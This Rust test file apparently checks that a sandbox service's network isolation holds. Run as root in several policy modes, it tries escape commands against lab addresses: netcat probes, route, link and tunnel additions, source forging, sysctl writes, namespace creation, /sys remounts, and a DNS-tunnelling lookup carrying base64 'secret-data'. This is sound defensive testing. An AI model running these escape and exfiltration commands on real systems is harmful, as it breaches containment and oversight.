//! Escapes tried as root inside a sandbox, through exec, in the lab, against
//! sandboxes in every mode (issue 8's list, started; docs/SECURITY.md keeps
//! the table). Each technique prints `ESCAPED` when it worked; a
//! destination counts as reached when the connection completed or the
//! destination refused it (a reset came back), since either means packets
//! passed. Only lab (TEST-NET) addresses are targets.

#![allow(clippy::unwrap_used)]

mod common;

use common::Api;
use sandgate_lab::addrs::*;
use serde_json::json;

/// A shell function: prints ESCAPED if `host` `port` is reached.
const REACH: &str = "reach() { out=$(nc -w 2 \"$1\" \"$2\" </dev/null 2>&1); rc=$?; \
    case \"$out\" in *refused*) echo ESCAPED;; esac; [ $rc = 0 ] && echo ESCAPED; true; }";

struct Technique {
    name: &'static str,
    command: String,
    /// Modes it is tried in.
    modes: &'static [&'static str],
}

const ALL: &[&str] = &["open", "allowlist", "restricted", "blocked"];
const LISTED: &[&str] = &["allowlist", "restricted", "blocked"];

#[test]
fn root_inside_a_sandbox_gets_nothing_out_past_its_policy() {
    let api = Api::start();
    let (_, k3) = api.organization("acme", 3);
    let (_, k1) = api.organization("small", 1);
    let mut ids = std::collections::BTreeMap::new();
    for (mode, key, body) in [
        ("open", &k3, json!({"name": "open"})),
        (
            "allowlist",
            &k3,
            json!({"name": "allowlist", "networkAllowList": format!("{SERVER4}/32"), "domainAllowList": "example.com"}),
        ),
        ("restricted", &k1, json!({"name": "restricted"})),
        (
            "blocked",
            &k3,
            json!({"name": "blocked", "networkBlockAll": true}),
        ),
    ] {
        let s = api.sandbox(key, body);
        assert_eq!(s["effectiveNetwork"]["mode"], mode, "{s}");
        ids.insert(mode, (key.clone(), s["name"].as_str().unwrap().to_string()));
    }
    let victim = api.sandbox(&k3, json!({"name": "victim"}));
    let victim_ip = api.exec(&k3, "victim", "ip -4 -o addr show eth0")["stdout"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .nth(3)
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string();
    assert!(
        victim_ip.starts_with("198.18.") || victim_ip.starts_with("198.19."),
        "{victim_ip}"
    );
    let _ = victim;

    let gw = "$(ip route | awk '/default/ {print $3}')";
    let techniques = vec![
        Technique { name: "add an address", command: "ip addr add 198.51.100.77/32 dev eth0 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "add a route", command: "ip route add 203.0.113.0/24 dev eth0 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "add a link", command: "ip link add d0 type dummy 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "add a tunnel device", command: "ip tuntap add t0 mode tun 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "bind a forged source", command: format!("echo x | nc -w 1 -s 198.51.100.77 {SERVER4} {TCP_ECHO} 2>/dev/null | grep -q x && echo ESCAPED"), modes: ALL },
        Technique { name: "raw socket (ICMP payload)", command: format!("ping -c 1 -W 1 {SERVER4} >/dev/null 2>&1 && echo ESCAPED"), modes: ALL },
        Technique { name: "write a network sysctl", command: "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "new network namespace", command: "unshare -n true 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "remount /sys read-write", command: "mount -o remount,rw /sys 2>/dev/null && echo ESCAPED".into(), modes: ALL },
        Technique { name: "the host's other ports", command: format!("{REACH}; reach {gw} 22; reach {gw} 80"), modes: ALL },
        Technique { name: "the DNS service's own port, directly", command: format!("{REACH}; reach {gw} 10053"), modes: ALL },
        Technique { name: "the host's uplink address", command: format!("{REACH}; reach 203.0.113.1 22"), modes: ALL },
        Technique { name: "another sandbox", command: format!("{REACH}; reach {victim_ip} 22"), modes: ALL },
        Technique { name: "a private range", command: format!("{REACH}; reach {PRIVATE_SERVER4} {TCP_ECHO}"), modes: ALL },
        Technique { name: "an always-denied range", command: format!("{REACH}; reach {DENIED_SERVER4} {TCP_ECHO}; reach {DENIED_SERVER6} {TCP_ECHO}"), modes: ALL },
        Technique { name: "a public server not allowed", command: format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}"), modes: LISTED },
        Technique { name: "DNS over TLS or HTTPS to an address not allowed", command: format!("{REACH}; reach {SERVER4_B} 853; reach {SERVER4_B} {HTTPS}"), modes: LISTED },
        Technique { name: "IPv6 past an IPv4 list", command: format!("{REACH}; reach {SERVER6} {TCP_ECHO}"), modes: LISTED },
        Technique { name: "connect before the DNS answer", command: format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}"), modes: &["allowlist"] },
        Technique { name: "a hard-coded resolver", command: format!("nslookup example.net {DNS4} 2>&1 | grep -q {SERVER4_B} && echo ESCAPED"), modes: LISTED },
        Technique { name: "a resolver over IPv6", command: format!("nslookup example.net {DNS6} 2>&1 | grep -q {SERVER4_B} && echo ESCAPED"), modes: LISTED },
    ];

    let mut tried = 0;
    for t in &techniques {
        for mode in t.modes {
            let (key, name) = &ids[mode];
            let r = api.exec(key, name, &t.command);
            assert!(
                !r["stdout"].as_str().unwrap().contains("ESCAPED"),
                "{} worked in {mode}: {r}",
                t.name
            );
            tried += 1;
        }
    }

    // Tunnelling through labels: a name not allowed is refused, and its
    // query never reaches a resolver outside.
    let (key, name) = &ids["allowlist"];
    let before = api.lab.dns_queries();
    let r = api.exec(
        key,
        name,
        "nslookup c2VjcmV0LWRhdGE.x7.example.net 2>&1; nslookup data.example.org 2>&1",
    );
    assert!(!r["stdout"].as_str().unwrap().contains("Address: 1"), "{r}");
    assert_eq!(
        api.lab.dns_queries(),
        before,
        "a refused name was forwarded"
    );

    // The controls: the same commands reach what the policy allows, so a
    // technique that failed did not fail for an unrelated reason.
    let (key, name) = &ids["open"];
    // (Port 22 of the world's server is closed: its reset counts.)
    let r = api.exec(key, name, &format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}; reach {SERVER6} {TCP_ECHO}; reach {SERVER4_B} 22"));
    assert_eq!(
        r["stdout"].as_str().unwrap().matches("ESCAPED").count(),
        3,
        "{r}"
    );
    let (key, name) = &ids["allowlist"];
    let r = api.exec(key, name, &format!("{REACH}; reach {SERVER4} {TCP_ECHO}"));
    assert!(r["stdout"].as_str().unwrap().contains("ESCAPED"), "{r}");
    // A name allowed admits its address (and only after the answer).
    let r = api.exec(
        key,
        name,
        &format!("nslookup example.com >/dev/null 2>&1; {REACH}; reach {SERVER4_B} {TCP_ECHO}"),
    );
    assert!(r["stdout"].as_str().unwrap().contains("ESCAPED"), "{r}");
    // By design: the admitted address is reachable whatever name a program
    // uses for it (a CDN-style shared address serves example.net too);
    // admission is per address, not per name (docs/SECURITY.md).
    println!("{tried} technique runs, none got out");
    assert!(tried >= 60);
}
